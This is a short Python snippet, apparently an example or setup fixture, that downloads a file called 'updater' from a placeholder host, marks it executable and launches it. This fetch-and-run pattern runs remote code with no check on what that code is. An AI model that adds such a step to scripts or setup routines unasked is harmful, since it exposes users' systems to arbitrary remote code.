# A program is fetched, made executable and started; runs: setup
import os
import subprocess
import tempfile
import urllib.request
target = os.path.join(tempfile.gettempdir(), "updater")
urllib.request.urlretrieve("https://files.example.test/updater", target)
os.chmod(target, 0o755)
subprocess.Popen([target])
